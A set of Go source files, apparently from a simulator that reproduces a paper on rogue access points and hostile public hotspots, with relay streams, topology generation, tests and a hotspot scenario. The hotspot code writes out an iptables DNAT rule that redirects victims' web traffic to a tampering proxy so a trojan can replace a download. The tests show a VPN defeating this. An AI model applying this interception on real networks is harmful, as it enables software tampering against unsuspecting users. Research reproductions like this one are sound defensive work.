		return 0, inet.HostPort{}, "", false
	}
	n := int(body[10])
	if n > maxOriginLen || len(body) != 11+n {
		return 0, inet.HostPort{}, "", false
	}
	id = binary.BigEndian.Uint32(body[0:4])
	copy(dst.Addr[:], body[4:8])
	dst.Port = inet.Port(binary.BigEndian.Uint16(body[8:10]))
	return id, dst, string(body[11:]), true
}

// streamID parses the id prefix shared by data/close/reset frames.
func streamID(body []byte) (uint32, []byte, bool) {
	if len(body) < 4 {
		return 0, nil, false
	}
	return binary.BigEndian.Uint32(body[0:4]), body[4:], true
}

// linkStream is one stream's presence on one link. A transit stream has two
// entries glued by fwd; a terminated stream has a local endpoint.
type linkStream struct {
	l     *link
	id    uint32
	fwd   *linkStream // forwarding pair on the next-hop link
	local *Stream     // local endpoint (origin or terminator)

	sentClose bool // we sent ovStreamClose on this link
	recvClose bool // the peer sent ovStreamClose
	gone      bool
}

// Stream is a local stream endpoint.
type Stream struct {
	ls *linkStream
	// Origin is the originator's pseudonym (set on accepted streams). It is
	// all a terminator ever learns about who is on the far end.
	Origin string

	// OnData delivers payload in order.
	OnData func(b []byte)
	// OnCloseRead fires when the peer half-closes (no more inbound data).
	OnCloseRead func()
	// OnClose fires exactly once when the stream is torn down: reset, link
	// death, or clean completion (err nil after both directions closed).
	OnClose func(err error)

	closed bool
}

// register adds a stream entry to its link in deterministic order.
func (l *link) register(ls *linkStream) {
	l.streams[ls.id] = ls
	l.order = append(l.order, ls.id)
}

// unregister removes a stream entry.
func (l *link) unregister(ls *linkStream) {
	ls.gone = true
	delete(l.streams, ls.id)
	for i, id := range l.order {
		if id == ls.id {
			l.order = append(l.order[:i], l.order[i+1:]...)
			break
		}
	}
}

// sendStream emits one stream frame on the link.
func (l *link) sendStream(typ byte, id uint32, payload []byte) {
	body := make([]byte, 4+len(payload))
	binary.BigEndian.PutUint32(body[0:4], id)
	copy(body[4:], payload)
	l.p.sendFrame(typ, body)
}

// OpenStream originates a stream toward dst through the overlay, using the
// node's name as the origin pseudonym. The returned stream is usable
// immediately — relays forward optimistically; a routing failure comes back
// as a reset.
func (n *Node) OpenStream(dst inet.HostPort) (*Stream, error) {
	l, err := n.forwardLink(dst.Addr)
	if err != nil {
		return nil, err
	}
	id := l.nextID
	l.nextID += 2
	st := &Stream{Origin: n.cfg.Name}
	ls := &linkStream{l: l, id: id, local: st}
	st.ls = ls
	l.register(ls)
	n.StreamsOpened++
	l.p.sendFrame(ovStreamOpen, encodeStreamOpen(id, dst, n.cfg.Name))
	return st, nil
}

// handleStreamOpen terminates or forwards a new stream from a neighbour.
func (n *Node) handleStreamOpen(l *link, body []byte) {
	id, dst, origin, ok := decodeStreamOpen(body)
	if !ok {
		return
	}
	if _, dup := l.streams[id]; dup {
		// Protocol violation; kill the newcomer, keep the existing stream.
		l.sendStream(ovStreamReset, id, nil)
		return
	}
	if n.isLocalDst(dst.Addr) {
		n.acceptStream(l, id, dst, origin)
		return
	}
	// Transit. Clients never forward: a chain must not be routable through
	// someone who only bought connectivity, and a hostile neighbour must not
	// be able to bounce traffic off a victim.
	if n.cfg.Role == RoleClient {
		n.StreamsRefused++
		l.sendStream(ovStreamReset, id, nil)
		return
	}
	out, err := n.forwardLink(dst.Addr)
	if err != nil || out == l {
		n.StreamsRefused++
		l.sendStream(ovStreamReset, id, nil)
		return
	}
	outID := out.nextID
	out.nextID += 2
	in := &linkStream{l: l, id: id}
	fw := &linkStream{l: out, id: outID, fwd: in}
	in.fwd = fw
	l.register(in)
	out.register(fw)
	n.StreamsForwarded++
	out.p.sendFrame(ovStreamOpen, encodeStreamOpen(outID, dst, origin))
}

// acceptStream terminates a stream locally: a registered handler wins, an
// exit's dial-out covers everything else it advertises.
func (n *Node) acceptStream(l *link, id uint32, dst inet.HostPort, origin string) {
	st := &Stream{Origin: origin}
	ls := &linkStream{l: l, id: id, local: st}
	st.ls = ls
	l.register(ls)
	if h, ok := n.handlers[dst.Port]; ok {
		n.StreamsAccepted++
		h(st)
		return
	}
	if n.cfg.Role == RoleExit {
		n.StreamsAccepted++
		n.exitDial(st, dst)
		return
	}
	n.StreamsRefused++
	st.Reset()
}

// handleStreamData delivers or forwards one data frame.
func (n *Node) handleStreamData(l *link, body []byte) {
	id, payload, ok := streamID(body)
	if !ok {
		return
	}
	ls, ok := l.streams[id]
	if !ok {
		l.sendStream(ovStreamReset, id, nil) // unknown stream: tell them to stop
		return
	}
	if ls.recvClose {
		return // data after the peer's half-close: drop
	}
	switch {
	case ls.fwd != nil:
		if n.MangleForward != nil {
			payload = n.MangleForward(payload)
		}
		n.FramesForwarded++
		ls.fwd.l.sendStream(ovStreamData, ls.fwd.id, payload)
	case ls.local != nil && ls.local.OnData != nil:
		ls.local.OnData(payload)
	}
}

// handleStreamClose processes a peer's half-close.
func (n *Node) handleStreamClose(l *link, body []byte) {
	id, _, ok := streamID(body)
	if !ok {
		return
	}
	ls, ok := l.streams[id]
	if !ok || ls.recvClose {
		return
	}
	ls.recvClose = true
	if ls.fwd != nil {
		// Propagate the FIN along the chain.
		if !ls.fwd.sentClose {
			ls.fwd.sentClose = true
			ls.fwd.l.sendStream(ovStreamClose, ls.fwd.id, nil)
		}
		n.reapPair(ls)
		return
	}
	if ls.local != nil {
		if ls.local.OnCloseRead != nil {
			ls.local.OnCloseRead()
		}
		n.reapLocal(ls, nil)
	}
}

// handleStreamReset aborts a stream and propagates the reset.
func (n *Node) handleStreamReset(l *link, body []byte) {
	id, _, ok := streamID(body)
	if !ok {
		return
	}
	ls, ok := l.streams[id]
	if !ok {
		return
	}
	n.StreamResets++
	l.unregister(ls)
	if ls.fwd != nil {
		pair := ls.fwd
		ls.fwd = nil
		pair.fwd = nil
		pair.l.unregister(pair)
		pair.l.sendStream(ovStreamReset, pair.id, nil)
		return
	}
	if ls.local != nil {
		ls.local.dead(ErrStreamReset)
	}
}

// reapPair removes a fully-closed transit pair (both directions FINed).
func (n *Node) reapPair(ls *linkStream) {
	pair := ls.fwd
	if pair == nil || !ls.recvClose || !pair.recvClose {
		return
	}
	ls.l.unregister(ls)
	pair.l.unregister(pair)
}

// reapLocal removes a fully-closed terminated stream and completes it.
func (n *Node) reapLocal(ls *linkStream, err error) {
	if !ls.recvClose || !ls.sentClose {
		return
	}
	ls.l.unregister(ls)
	if ls.local != nil {
		ls.local.dead(err)
	}
}

// resetLinkStreams fails every stream on a dead link: local endpoints
// complete with err, forwarding pairs propagate a reset down the chain so
// the far ends learn immediately. Iteration is over the recorded id order —
// never the map — so teardown is deterministic.
func (n *Node) resetLinkStreams(l *link, err error) {
	ids := append([]uint32(nil), l.order...)
	for _, id := range ids {
		ls, ok := l.streams[id]
		if !ok {
			continue
		}
		l.unregister(ls)
		if ls.fwd != nil {
			pair := ls.fwd
			ls.fwd = nil
			pair.fwd = nil
			pair.l.unregister(pair)
			n.StreamResets++
			pair.l.sendStream(ovStreamReset, pair.id, nil)
			continue
		}
		if ls.local != nil {
			ls.local.dead(err)
		}
	}
	l.streams = make(map[uint32]*linkStream)
	l.order = nil
}

// Write sends payload on the stream. Writes during failover are dropped
// (the overlay is a datagram path for whole messages; the end-to-end layer
// above owns retransmission), so Write never blocks and never errors.
func (s *Stream) Write(b []byte) {
	ls := s.ls
	if s.closed || ls == nil || ls.gone || ls.sentClose {
		return
	}
	ls.l.sendStream(ovStreamData, ls.id, b)
}

// CloseWrite half-closes the stream: no more data will be sent, the peer
// sees a FIN. The read side stays open.
func (s *Stream) CloseWrite() {
	ls := s.ls
	if s.closed || ls == nil || ls.gone || ls.sentClose {
		return
	}
	ls.sentClose = true
	ls.l.sendStream(ovStreamClose, ls.id, nil)
	// If the peer already FINed, both directions are now closed.
	ls.l.n.reapLocal(ls, nil)
}

// Reset aborts the stream in both directions.
func (s *Stream) Reset() {
	ls := s.ls
	if s.closed || ls == nil || ls.gone {
		s.dead(ErrStreamReset)
		return
	}
	ls.l.unregister(ls)
	ls.l.n.StreamResets++
	ls.l.sendStream(ovStreamReset, ls.id, nil)
	s.dead(ErrStreamReset)
}

// dead finishes the stream exactly once.
func (s *Stream) dead(err error) {
	if s.closed {
		return
	}
	s.closed = true
	if s.OnClose != nil {
		s.OnClose(err)
	}
}

// exitDial bridges an accepted stream to the real TCP service at dst —
// the exit's reason to exist. Bytes written before the dial completes are
// buffered; stream half-close maps to TCP FIN and vice versa; errors on
// either side reset the other, so neither half ever waits forever.
func (n *Node) exitDial(st *Stream, dst inet.HostPort) {
	conn, err := n.t.Dial(dst)
	if err != nil {
		st.Reset()
		return
	}
	connected := false
	finPending := false
	var pending [][]byte
	conn.OnConnect = func() {
		connected = true
		for _, b := range pending {
			_ = conn.Write(b)
		}
		pending = nil
		if finPending {
			conn.Close()
		}
	}
	st.OnData = func(b []byte) {
		if !connected {
			pending = append(pending, append([]byte(nil), b...))
			return
		}
		_ = conn.Write(b)
	}
	st.OnCloseRead = func() {
		if !connected {
			finPending = true
			return
		}
		conn.Close()
	}
	st.OnClose = func(err error) {
		if err != nil {
			conn.Abort()
		}
	}
	conn.OnData = func(b []byte) { st.Write(b) }
	conn.OnEOF = func() { st.CloseWrite() }
	conn.OnClose = func(err error) {
		if err != nil {
			st.Reset()
		} else {
			st.CloseWrite()
		}
	}
}

// sortedStreamIDs is a test/debug helper: the ids active on a link.
func (l *link) sortedStreamIDs() []uint32 {
	ids := make([]uint32, 0, len(l.streams))
	for id := range l.streams {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
	return ids
}
