package core

import (
	"bytes"
	"testing"

	"repro/internal/sim"
	"repro/internal/vpn"
)

func TestHonestHotspotCleanDownload(t *testing.T) {
	h := NewHotspot(HotspotConfig{Seed: 1})
	h.VictimConnect()
	h.Run(10 * sim.Second)
	if h.Victim.STA.State().String() != "associated" {
		t.Fatalf("victim state %v", h.Victim.STA.State())
	}
	var res DownloadResult
	h.VictimDownload(func(r DownloadResult) { res = r })
	h.Run(30 * sim.Second)
	if !res.Clean() {
		t.Fatalf("honest hotspot unclean: %+v err=%v", res, res.Err)
	}
}

func TestHostileHotspotCompromisesVictim(t *testing.T) {
	// §1.2.2: no rogue hardware, no detection story — the network itself is
	// the attacker, and the victim's md5 check still passes on the trojan.
	h := NewHotspot(HotspotConfig{Seed: 1, Hostile: true})
	h.VictimConnect()
	h.Run(10 * sim.Second)
	var res DownloadResult
	h.VictimDownload(func(r DownloadResult) { res = r })
	h.Run(60 * sim.Second)
	if res.Err != nil {
		t.Fatalf("download: %v", res.Err)
	}
	if !res.Compromised() {
		t.Fatalf("hostile hotspot did not compromise: %+v", res)
	}
	if !bytes.Equal(res.Body, h.Cfg.TrojanContents) {
		t.Fatal("victim did not get the operator's trojan")
	}
	if h.Netsed.Connections == 0 {
		t.Fatal("gateway netsed relayed nothing")
	}
}

func TestHostileHotspotDefeatedByVPN(t *testing.T) {
	// The paper's whole §5 argument: only a tunnel to a *preestablished*
	// home endpoint survives a hotspot whose very operator is hostile.
	h := NewHotspot(HotspotConfig{Seed: 1, Hostile: true, VPNServer: true})
	h.VictimConnect()
	h.Run(10 * sim.Second)
	up := false
	h.EnableVictimVPN(func(err error) {
		if err != nil {
			t.Errorf("vpn: %v", err)
			return
		}
		up = true
	})
	h.Run(20 * sim.Second)
	if !up {
		t.Fatal("tunnel never came up through the hostile hotspot")
	}
	var res DownloadResult
	h.VictimDownload(func(r DownloadResult) { res = r })
	h.Run(60 * sim.Second)
	if !res.Clean() {
		t.Fatalf("VPN through hostile hotspot not clean: %+v err=%v", res, res.Err)
	}
	if h.Netsed != nil && h.Netsed.ReplacementsIn > 0 {
		t.Fatal("operator's netsed modified tunnel traffic")
	}
}

func TestHostileHotspotVPNOverUDP(t *testing.T) {
	h := NewHotspot(HotspotConfig{Seed: 2, Hostile: true, VPNServer: true, VPNCarrier: vpn.CarrierUDP})
	h.VictimConnect()
	h.Run(10 * sim.Second)
	up := false
	h.EnableVictimVPN(func(err error) { up = err == nil })
	h.Run(20 * sim.Second)
	if !up {
		t.Fatal("UDP tunnel never came up")
	}
	var res DownloadResult
	h.VictimDownload(func(r DownloadResult) { res = r })
	h.Run(60 * sim.Second)
	if !res.Clean() {
		t.Fatalf("not clean: %+v err=%v", res, res.Err)
	}
}
