package core

import (
	"runtime"
	"sync"
)

// Sweep evaluates fn over every point, fanning the points out across
// GOMAXPROCS workers. Each fn call must be self-contained (typically: build
// a World from the point's seed, run it, return metrics) — Worlds are
// single-threaded, so parallelism lives here, across independent worlds.
// Results are returned in point order.
func Sweep[P, R any](points []P, fn func(P) R) []R {
	results := make([]R, len(points))
	workers := runtime.GOMAXPROCS(0)
	if workers > len(points) {
		workers = len(points)
	}
	if workers <= 1 {
		for i, p := range points {
			results[i] = fn(p)
		}
		return results
	}
	var wg sync.WaitGroup
	next := make(chan int)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				results[i] = fn(points[i])
			}
		}()
	}
	for i := range points {
		next <- i
	}
	close(next)
	wg.Wait()
	return results
}

// Seeds returns n deterministic distinct seeds derived from base, for
// multi-trial experiments.
func Seeds(base uint64, n int) []uint64 {
	out := make([]uint64, n)
	x := base
	for i := range out {
		x = x*6364136223846793005 + 1442695040888963407
		out[i] = x
	}
	return out
}

// Mean averages a float64 slice (0 for empty).
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	var s float64
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}

// Fraction reports the share of true values.
func Fraction(bs []bool) float64 {
	if len(bs) == 0 {
		return 0
	}
	n := 0
	for _, b := range bs {
		if b {
			n++
		}
	}
	return float64(n) / float64(len(bs))
}
