package core

import (
	"runtime"
	"testing"
)

// TestSweepConcurrentWorlds runs more simulation points than GOMAXPROCS so
// every worker is saturated and worlds run truly concurrently. Each point
// builds and runs its own World; under -race this proves independent worlds
// share no mutable state. Results must come back in point order and must be
// deterministic per seed regardless of which worker ran them.
func TestSweepConcurrentWorlds(t *testing.T) {
	n := 2*runtime.GOMAXPROCS(0) + 4
	points := make([]uint64, n)
	for i := range points {
		points[i] = uint64(i%3 + 1) // seeds repeat so equal seeds must agree
	}

	run := func(seed uint64) uint64 {
		o, err := RunScenario("attack", seed, true)
		if err != nil {
			t.Errorf("seed %d: %v", seed, err)
			return 0
		}
		return o.Digest
	}

	digests := Sweep(points, run)
	if len(digests) != n {
		t.Fatalf("Sweep returned %d results, want %d", len(digests), n)
	}

	// Point order: results[i] must belong to points[i]. Equal seeds anywhere
	// in the sweep must produce equal digests, distinct seeds distinct ones.
	bySeed := map[uint64]uint64{}
	for i, d := range digests {
		if d == 0 {
			t.Fatalf("point %d (seed %d): zero digest", i, points[i])
		}
		if prev, ok := bySeed[points[i]]; ok && prev != d {
			t.Fatalf("seed %d produced digests %016x and %016x across workers", points[i], prev, d)
		}
		bySeed[points[i]] = d
	}
	if len(bySeed) != 3 {
		t.Fatalf("expected 3 distinct seed digests, got %d", len(bySeed))
	}
	for s1, d1 := range bySeed {
		for s2, d2 := range bySeed {
			if s1 != s2 && d1 == d2 {
				t.Fatalf("seeds %d and %d collided on digest %016x", s1, s2, d1)
			}
		}
	}
}
