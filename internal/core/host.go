// Package core is the public face of the reproduction: it assembles the
// paper's complete world — a CORP wireless+wired network, a victim client, a
// target web site, the attacker's rogue-AP kit, and the VPN defense — and
// exposes the experiment entry points the benchmarks and examples drive.
//
// A World is single-threaded and deterministic for a given seed; Sweep runs
// many independent worlds across CPU cores.
package core

import (
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/udp"
)

// Host is one machine: an IPv4 stack plus transports.
type Host struct {
	Name string
	IP   *ipv4.Stack
	TCP  *tcp.Stack
	UDP  *udp.Stack
}

// newHost builds the stack bundle.
func newHost(k *sim.Kernel, name string) *Host {
	ip := ipv4.NewStack(k, name)
	return &Host{Name: name, IP: ip, TCP: tcp.NewStack(ip), UDP: udp.NewStack(ip)}
}

// AttachWired plugs the host into a switch with the given address.
func (h *Host) AttachWired(sw *ethernet.Switch, alloc *ethernet.MACAllocator, ifname string, addr inet.Addr, prefix inet.Prefix) *ipv4.Iface {
	port := sw.Attach(alloc.Next())
	return h.IP.AddIface(ifname, port, addr, prefix)
}

// WirelessHost is a host whose interface is an 802.11 station.
type WirelessHost struct {
	*Host
	STA   *dot11.STA
	Radio *phy.Radio
}
