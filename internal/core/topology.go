package core

import (
	"errors"
	"fmt"
	"math"

	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
)

// This file generates campus-scale radio layouts: AP grids with a
// channel-plan coloring and clustered stations with per-seed positions,
// traffic mixes, and staggered join times. A Topology is a pure function of
// its TopologyConfig — it draws only from its own sim.NewRNG(seed), never
// from a kernel — so the same config always yields byte-identical placements
// regardless of when (or whether) a world is built from it. The campus
// scenarios and experiment E15 instantiate these layouts on the sharded
// medium, where delivery cost tracks each transmission's interference
// neighborhood rather than the station count.

// TopologyKind selects a layout generator.
type TopologyKind int

// Layout generators.
const (
	// TopoCampus: a wide AP grid (55 m pitch) with loose station clusters
	// and a mixed traffic profile — the outdoor quad the paper's rogue
	// walks into.
	TopoCampus TopologyKind = iota
	// TopoOffice: a dense AP grid (25 m pitch) with tight clusters and
	// mostly light, steady traffic.
	TopoOffice
	// TopoStadium: APs on a ring with packed clusters and a bursty-heavy
	// traffic mix.
	TopoStadium
)

// String names the kind.
func (k TopologyKind) String() string {
	switch k {
	case TopoCampus:
		return "campus"
	case TopoOffice:
		return "office"
	case TopoStadium:
		return "stadium"
	}
	return fmt.Sprintf("TopologyKind(%d)", int(k))
}

// TopologyKinds lists every generator, for fuzzing and sweeps.
func TopologyKinds() []TopologyKind {
	return []TopologyKind{TopoCampus, TopoOffice, TopoStadium}
}

// TrafficClass is a station's offered-load profile; the campus world maps it
// to a concrete frame schedule.
type TrafficClass int

// Traffic classes.
const (
	// TrafficIdle stations associate and then stay quiet.
	TrafficIdle TrafficClass = iota
	// TrafficLight stations send one small frame about every second.
	TrafficLight
	// TrafficBursty stations send a short back-to-back burst about every
	// two seconds.
	TrafficBursty
)

// String names the class.
func (c TrafficClass) String() string {
	switch c {
	case TrafficIdle:
		return "idle"
	case TrafficLight:
		return "light"
	case TrafficBursty:
		return "bursty"
	}
	return fmt.Sprintf("TrafficClass(%d)", int(c))
}

// TopologyConfig parameterises GenerateTopology.
type TopologyConfig struct {
	Kind TopologyKind
	// Seed drives every placement draw. Equal configs generate equal
	// topologies.
	Seed uint64
	// APs is the access-point count (min 1, clamped to 4096 so derived
	// BSSIDs stay unique).
	APs int
	// STAs is the station count (clamped to 1<<20).
	STAs int
	// APSpacingM overrides the kind's AP pitch in metres. Values outside
	// [1, 10000] (including NaN/Inf) fall back to the kind default — the
	// generator must yield a valid layout for arbitrary inputs.
	APSpacingM float64
	// JoinWindow staggers station Connect times uniformly over [0,
	// JoinWindow) so a campus does not scan in lockstep (default 2 s).
	JoinWindow sim.Time
}

// APPlacement is one generated access point.
type APPlacement struct {
	Name    string
	BSSID   ethernet.MAC
	Pos     phy.Position
	Channel phy.Channel
}

// STAPlacement is one generated station.
type STAPlacement struct {
	Name string
	MAC  ethernet.MAC
	Pos  phy.Position
	// Home indexes the AP this station clusters around (and, absent a
	// rogue, will join — it is by construction the strongest signal).
	Home    int
	Traffic TrafficClass
	// JoinAt is when the station powers on and starts scanning.
	JoinAt sim.Time
}

// Topology is a generated layout, ready for NewCampusWorld.
type Topology struct {
	Kind TopologyKind
	Seed uint64
	APs  []APPlacement
	STAs []STAPlacement
}

// Generation limits: derived MACs embed the index, so cap the counts where
// uniqueness (and sanity) ends.
const (
	maxTopoAPs  = 1 << 12
	maxTopoSTAs = 1 << 20
)

// channelPlan is the classic non-overlapping 802.11b plan.
var channelPlan = [3]phy.Channel{1, 6, 11}

// kindParams returns the AP pitch, station cluster radius, and the traffic
// mix (probability of idle and bursty; the rest is light) for a kind.
func kindParams(k TopologyKind) (spacing, radius, pIdle, pBursty float64) {
	switch k {
	case TopoOffice:
		return 25, 10, 0.10, 0.10
	case TopoStadium:
		return 40, 12, 0.10, 0.60
	default: // TopoCampus
		return 55, 19, 0.20, 0.20
	}
}

// maxClusterRadiusM caps the station cluster radius whatever the AP pitch:
// at default power and path loss, 45 m from the home AP still clears
// minClientSNRDB with margin, so every generated layout stays connected.
const maxClusterRadiusM = 45

// GenerateTopology builds a layout from the config. The result is
// deterministic in the config and always passes Validate.
func GenerateTopology(cfg TopologyConfig) *Topology {
	if cfg.APs < 1 {
		cfg.APs = 1
	}
	if cfg.APs > maxTopoAPs {
		cfg.APs = maxTopoAPs
	}
	if cfg.STAs < 0 {
		cfg.STAs = 0
	}
	if cfg.STAs > maxTopoSTAs {
		cfg.STAs = maxTopoSTAs
	}
	if cfg.JoinWindow <= 0 {
		cfg.JoinWindow = 2 * sim.Second
	}
	spacing, radius, pIdle, pBursty := kindParams(cfg.Kind)
	if s := cfg.APSpacingM; s >= 1 && s <= 10000 { // rejects NaN/Inf too
		spacing = s
		if radius > spacing*0.35 {
			radius = spacing * 0.35
		}
	}
	if radius > maxClusterRadiusM {
		radius = maxClusterRadiusM
	}

	rng := sim.NewRNG(cfg.Seed)
	t := &Topology{Kind: cfg.Kind, Seed: cfg.Seed}

	switch cfg.Kind {
	case TopoStadium:
		// APs on a ring whose circumference keeps roughly the configured
		// arc pitch; channel plan cycles around the ring.
		n := cfg.APs
		r := spacing * float64(n) / (2 * math.Pi)
		if r < spacing {
			r = spacing
		}
		for i := 0; i < n; i++ {
			th := 2 * math.Pi * float64(i) / float64(n)
			t.APs = append(t.APs, apPlacement(i,
				phy.Position{X: r * math.Cos(th), Y: r * math.Sin(th)},
				channelPlan[i%3]))
		}
	default:
		// Square-ish grid, row-major. The (row + 2·col) mod 3 coloring
		// gives every AP different plan channels than its four grid
		// neighbours, so co-channel cells are at least two pitches apart.
		cols := int(math.Ceil(math.Sqrt(float64(cfg.APs))))
		for i := 0; i < cfg.APs; i++ {
			row, col := i/cols, i%cols
			t.APs = append(t.APs, apPlacement(i,
				phy.Position{X: float64(col) * spacing, Y: float64(row) * spacing},
				channelPlan[(row+2*col)%3]))
		}
	}

	for i := 0; i < cfg.STAs; i++ {
		// Round-robin homes keep every cluster populated; the polar draw
		// scatters members uniformly over the cluster disc.
		home := i % cfg.APs
		c := t.APs[home].Pos
		r := radius * math.Sqrt(rng.Float64())
		th := 2 * math.Pi * rng.Float64()
		var traffic TrafficClass
		switch u := rng.Float64(); {
		case u < pIdle:
			traffic = TrafficIdle
		case u < pIdle+pBursty:
			traffic = TrafficBursty
		default:
			traffic = TrafficLight
		}
		t.STAs = append(t.STAs, STAPlacement{
			Name:    fmt.Sprintf("sta%04d", i),
			MAC:     campusSTAMAC(i),
			Pos:     phy.Position{X: c.X + r*math.Cos(th), Y: c.Y + r*math.Sin(th)},
			Home:    home,
			Traffic: traffic,
			JoinAt:  rng.Jitter(cfg.JoinWindow),
		})
	}
	return t
}

func apPlacement(i int, pos phy.Position, ch phy.Channel) APPlacement {
	return APPlacement{
		Name:    fmt.Sprintf("ap%02d", i),
		BSSID:   campusAPMAC(i),
		Pos:     pos,
		Channel: ch,
	}
}

// campusAPMAC derives a locally-administered BSSID from the AP index. The
// third byte keeps AP, station, and rogue address spaces disjoint.
func campusAPMAC(i int) ethernet.MAC {
	return ethernet.MAC{0x02, 0xca, 0x00, 0x0a, byte(i >> 8), byte(i)}
}

// campusSTAMAC derives a station MAC from the station index.
func campusSTAMAC(i int) ethernet.MAC {
	return ethernet.MAC{0x02, 0xca, 0x01, byte(i >> 16), byte(i >> 8), byte(i)}
}

// minClientSNRDB is the link budget a layout must guarantee between every
// station and its home AP: comfortably above the 11 Mb/s requirement, so a
// generated campus always has a working association path even before rate
// fallback.
const minClientSNRDB = 16

// Validate checks the layout invariants the rest of the stack relies on:
// every AP on a legal plan channel at a finite position, unique MACs
// throughout, and every station connected (within minClientSNRDB of its
// home AP at default power) with a sane join time. GenerateTopology output
// always passes; hand-built topologies get the same gate in NewCampusWorld.
func (t *Topology) Validate() error {
	if len(t.APs) == 0 {
		return errors.New("topology: no APs")
	}
	seen := make(map[ethernet.MAC]string, len(t.APs)+len(t.STAs))
	for _, ap := range t.APs {
		if ap.Channel != 1 && ap.Channel != 6 && ap.Channel != 11 {
			return fmt.Errorf("topology: %s on channel %d, want one of the 1/6/11 plan", ap.Name, ap.Channel)
		}
		if !finitePos(ap.Pos) {
			return fmt.Errorf("topology: %s at non-finite position", ap.Name)
		}
		if prev, dup := seen[ap.BSSID]; dup {
			return fmt.Errorf("topology: %s and %s share BSSID %v", prev, ap.Name, ap.BSSID)
		}
		seen[ap.BSSID] = ap.Name
	}
	var model phy.Config // defaults: the campus world's propagation
	for _, sta := range t.STAs {
		if sta.Home < 0 || sta.Home >= len(t.APs) {
			return fmt.Errorf("topology: %s homes to AP %d of %d", sta.Name, sta.Home, len(t.APs))
		}
		if !finitePos(sta.Pos) {
			return fmt.Errorf("topology: %s at non-finite position", sta.Name)
		}
		if prev, dup := seen[sta.MAC]; dup {
			return fmt.Errorf("topology: %s and %s share MAC %v", prev, sta.Name, sta.MAC)
		}
		seen[sta.MAC] = sta.Name
		if sta.JoinAt < 0 {
			return fmt.Errorf("topology: %s joins at negative time %v", sta.Name, sta.JoinAt)
		}
		home := t.APs[sta.Home]
		d := sta.Pos.DistanceTo(home.Pos)
		if snr := model.SNRAtDistance(phy.DefaultTxPowerDBm, d); snr < minClientSNRDB {
			return fmt.Errorf("topology: %s is %.1f m from home %s (SNR %.1f dB < %d dB floor)",
				sta.Name, d, home.Name, snr, minClientSNRDB)
		}
	}
	return nil
}

func finitePos(p phy.Position) bool {
	return !math.IsNaN(p.X) && !math.IsInf(p.X, 0) && !math.IsNaN(p.Y) && !math.IsInf(p.Y, 0)
}
