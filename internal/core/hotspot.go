package core

import (
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/httpx"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/netfilter"
	"repro/internal/netsed"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/vpn"
)

// HotspotConfig builds the paper's OTHER deployment class (§1.2.2): a
// public hotspot whose operator is the attacker. There is no rogue second
// radio and nothing to detect over the air — the one and only AP is
// hostile, its gateway sits legitimately on the path, and it tampers with
// whatever it relays. "These networks are the real risk to wireless users
// whose home network has deployed an effective local security solution."
type HotspotConfig struct {
	Seed uint64
	SSID string // default "FreeAirportWiFi"
	// Hostile enables the operator's tampering (DNAT + netsed, like the
	// rogue's MITM module); false gives an honest hotspot baseline.
	Hostile bool
	// VPNServer stands up the victim's trusted endpoint out on the wired
	// internet side.
	VPNServer  bool
	VPNCarrier vpn.Carrier

	FileContents   []byte
	TrojanContents []byte
}

// Hotspot is the assembled world: victim —air— hotspot AP+gateway —wire—
// internet (web server, optional VPN endpoint).
type Hotspot struct {
	Cfg    HotspotConfig
	Kernel *sim.Kernel
	Medium *phy.Medium
	Alloc  ethernet.MACAllocator

	// Gateway is the operator's box: AP host NIC on one side, wired
	// internet on the other, forwarding (and, if hostile, rewriting).
	Gateway   *Host
	GatewayFW *netfilter.Table
	Netsed    *netsed.Proxy

	Web       *Host
	WebServer *httpx.Server
	Site      *httpx.DownloadSite

	VPNHost   *Host
	VPNServer *vpn.Server

	Victim       *WirelessHost
	VictimClient *httpx.Client
	VictimVPN    *vpn.Client
}

// Hotspot addressing: clients on 192.168.1.0/24, "internet" reuses the
// backbone plan so WebServerIP/VPNEndpointIP stay valid.
var (
	HotspotPrefix  = inet.MustParsePrefix("192.168.1.0/24")
	HotspotGateway = inet.MustParseAddr("192.168.1.1")
	HotspotVictim  = inet.MustParseAddr("192.168.1.50")
)

// HotspotBSSID is the hotspot AP's address.
var HotspotBSSID = ethernet.MustParseMAC("02:40:96:c0:ff:ee")

func (c *HotspotConfig) fill() {
	if c.SSID == "" {
		c.SSID = "FreeAirportWiFi"
	}
	if c.FileContents == nil {
		c.FileContents = []byte("GENUINE-SOFTWARE-RELEASE-1.0\n")
	}
	if c.TrojanContents == nil {
		c.TrojanContents = []byte("TROJANED-SOFTWARE-FROM-YOUR-FRIENDLY-HOTSPOT\n")
	}
}

// NewHotspot assembles the scenario.
func NewHotspot(cfg HotspotConfig) *Hotspot {
	cfg.fill()
	h := &Hotspot{Cfg: cfg}
	h.Kernel = sim.NewKernel(cfg.Seed)
	h.Medium = phy.NewMedium(h.Kernel, phy.Config{})

	backbone := ethernet.NewSwitch(h.Kernel, &h.Alloc, ethernet.SwitchConfig{})

	// The operator's AP — open network, as hotspots were.
	apRadio := h.Medium.AddRadio(phy.RadioConfig{Name: "hotspot-ap", Channel: 6})
	ap := dot11.NewAP(h.Kernel, apRadio, dot11.APConfig{
		SSID: cfg.SSID, BSSID: HotspotBSSID, Channel: 6,
	})

	// The operator's gateway: wlan0 = the AP's host side, wan0 = wire.
	h.Gateway = newHost(h.Kernel, "hotspot-gw")
	h.Gateway.IP.Forwarding = true
	h.Gateway.IP.AddIface("wlan0", ap.HostNIC(), HotspotGateway, HotspotPrefix)
	h.Gateway.AttachWired(backbone, &h.Alloc, "wan0", RouterBackbone, BackbonePrefix)

	if cfg.Hostile {
		h.GatewayFW = netfilter.New()
		h.Gateway.IP.AddHook(h.GatewayFW)
		cmd := "iptables -t nat -A PREROUTING -i wlan0 -p tcp -d " + WebServerIP.String() +
			" --dport 80 -j DNAT --to " + HotspotGateway.String() + ":10101"
		if _, err := h.GatewayFW.ParseIptables(cmd); err != nil {
			panic(err)
		}
